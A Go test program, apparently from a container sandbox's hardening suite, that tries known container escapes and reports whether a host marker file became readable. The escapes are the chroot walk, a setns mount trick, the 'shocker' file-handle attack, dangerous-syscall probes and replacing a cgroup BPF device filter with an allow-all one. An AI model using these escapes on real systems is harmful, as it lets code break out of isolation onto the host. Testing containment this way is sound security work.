// Command escape is the attack side of the hardening tests: run as root
// inside a container, it tries one known way out and prints what it got.
// It is built by the tests and copied into the test tree; it is never
// installed.
package main

import (
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"unsafe"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/asm"
	"github.com/cilium/ebpf/link"
	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escape chroot|setns|handle|syscalls|bpf-devices ARGS")
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "chroot":
		err = chrootWalk(os.Args[2])
	case "setns":
		err = setnsWalk(os.Args[2])
	case "handle":
		err = byHandle(os.Args[2], os.Args[3])
	case "syscalls":
		syscalls()
	case "bpf-devices":
		bpfDevices(os.Args[2], os.Args[3])
	default:
		err = fmt.Errorf("unknown attack %q", os.Args[1])
	}
	if err != nil {
		fmt.Println("error:", err)
		os.Exit(1)
	}
}

func report(marker string) {
	if data, err := os.ReadFile(marker); err == nil {
		fmt.Printf("ESCAPED: read %q\n", strings.TrimSpace(string(data)))
	} else {
		fmt.Println("contained:", err)
	}
}

// chrootWalk is the classic: chroot into a subdirectory while the cwd stays
// above it, then walk ".." past the root and chroot there.
func chrootWalk(marker string) error {
	if err := os.MkdirAll("/tmp/walk", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/walk"); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	for i := 0; i < 100; i++ {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	report(marker)
	return nil
}

// setnsWalk detaches the container's root and re-enters its own mount
// namespace, whose root is then whatever lay under the tree.
func setnsWalk(marker string) error {
	// A mount namespace is entered only by a thread with an fs_struct of
	// its own (Go's threads share one).
	runtime.LockOSThread()
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return fmt.Errorf("unshare CLONE_FS: %w", err)
	}
	fd, err := unix.Open("/proc/self/ns/mnt", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
		fmt.Println("detach /:", err)
	}
	if err := unix.Setns(fd, unix.CLONE_NEWNS); err != nil {
		return fmt.Errorf("setns: %w", err)
	}
	unix.Chdir("/")
	report(marker)
	return nil
}

// byHandle is "shocker": open a host file by its file handle (type:hex, as
// name_to_handle_at gave it on the host), with only the container's root
// as the mount descriptor: the handle is not checked against the mount.
func byHandle(typ, hexbytes string) error {
	b, err := hex.DecodeString(hexbytes)
	if err != nil {
		return err
	}
	var t int32
	fmt.Sscan(typ, &t)
	h := unix.NewFileHandle(t, b)
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	fd, err := unix.OpenByHandleAt(root, h, unix.O_RDONLY)
	if err != nil {
		fmt.Println("contained: open_by_handle_at:", err)
		return nil
	}
	data := make([]byte, 256)
	n, _ := unix.Read(fd, data)
	fmt.Printf("ESCAPED: read %q\n", strings.TrimSpace(string(data[:n])))
	return nil
}

// syscalls makes each call the filter must stop, with arguments that do no
// harm when it is let through (bad descriptors, an id query), and prints
// name=errno ("ok" when it succeeded).
func syscalls() {
	name := func(err error) string {
		var e syscall.Errno
		if err == nil {
			return "ok"
		}
		if errors.As(err, &e) {
			return unix.ErrnoName(e)
		}
		return err.Error()
	}
	raw := func(nr uintptr, a ...uintptr) error {
		for len(a) < 6 {
			a = append(a, 0)
		}
		_, _, e := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
		if e != 0 {
			return e
		}
		return nil
	}
	empty := unsafe.Pointer(&[]byte{0}[0])
	const keyctlGetKeyringID, keySpecSession = 0, ^uintptr(2) // -3
	for _, c := range []struct {
		name string
		err  error
	}{
		{"keyctl", raw(unix.SYS_KEYCTL, keyctlGetKeyringID, keySpecSession, 0)},
		{"bpf", raw(unix.SYS_BPF, 0xffff, 0, 0)},
		{"finit_module", raw(unix.SYS_FINIT_MODULE, ^uintptr(0), uintptr(empty), 0)},
		{"kexec_file_load", raw(unix.SYS_KEXEC_FILE_LOAD, ^uintptr(0), ^uintptr(0), 0, uintptr(empty), 0)},
		{"perf_event_open", raw(unix.SYS_PERF_EVENT_OPEN, 0, 0, ^uintptr(0), ^uintptr(0), 0)},
		{"userfaultfd", raw(unix.SYS_USERFAULTFD, 0xffffffff)},
		{"i386:keyctl", int80(288, keyctlGetKeyringID, keySpecSession&0xffffffff, 0)},
	} {
		fmt.Printf("%s=%s\n", c.name, name(c.err))
	}
}

// bpfDevices attacks the cgroup2 device program that confines the
// container, through cgroup2 mounted at root: in its own cgroup and each
// one above it that it can see (up to floor, relative to root), it lists
// the device programs attached, and detaches spawn's (only spawn's: other
// containers' are never touched); then it attaches an allow-all program to
// its own cgroup, which would make the device checks pass if attached
// programs replaced those above. It prints what each step gave.
func bpfDevices(root, floor string) {
	data, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	own := ""
	for _, line := range strings.Split(string(data), "\n") {
		if p, ok := strings.CutPrefix(line, "0::"); ok {
			own = p
		}
	}
	if own == "" {
		fmt.Println("error: no cgroup2 line in /proc/self/cgroup")
		return
	}
	open := func(dir string) int {
		fd, err := unix.Open(root+dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			fmt.Printf("open %s: %v\n", dir, err)
			return -1
		}
		return fd
	}
	for dir := own; ; dir = filepath.Dir(dir) {
		detached := false
		if fd := open(dir); fd >= 0 {
			res, err := link.QueryPrograms(link.QueryOptions{Target: fd, Attach: ebpf.AttachCGroupDevice})
			if err != nil {
				fmt.Printf("query %s: %v\n", dir, err)
			} else {
				fmt.Printf("query %s: %d programs\n", dir, len(res.Programs))
				for _, ap := range res.Programs {
					prog, err := ebpf.NewProgramFromID(ap.ID)
					if err != nil {
						fmt.Printf("program %d: %v\n", ap.ID, err)
						continue
					}
					if info, err := prog.Info(); err != nil || info.Name != "spawn_devices" {
						prog.Close()
						continue
					}
					err = link.RawDetachProgram(link.RawDetachProgramOptions{Target: fd, Program: prog, Attach: ebpf.AttachCGroupDevice})
					fmt.Printf("detach from %s: %v\n", dir, errText(err))
					detached = detached || err == nil
					prog.Close()
				}
			}
			unix.Close(fd)
		}
		if detached || dir == "/" || dir == floor {
			break
		}
	}
	allow, err := ebpf.NewProgram(&ebpf.ProgramSpec{
		Type:         ebpf.CGroupDevice,
		AttachType:   ebpf.AttachCGroupDevice,
		Instructions: asm.Instructions{asm.Mov.Imm(asm.R0, 1), asm.Return()},
		License:      "GPL",
	})
	if err != nil {
		fmt.Println("load allow-all:", errText(err))
		return
	}
	defer allow.Close()
	if fd := open(own); fd >= 0 {
		// Flags 0: an exclusive program, as if it could stand in for the
		// ones attached above.
		err := link.RawAttachProgram(link.RawAttachProgramOptions{Target: fd, Program: allow, Attach: ebpf.AttachCGroupDevice})
		fmt.Printf("attach allow-all to %s: %v\n", own, errText(err))
		unix.Close(fd)
	}
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	return err.Error()
}
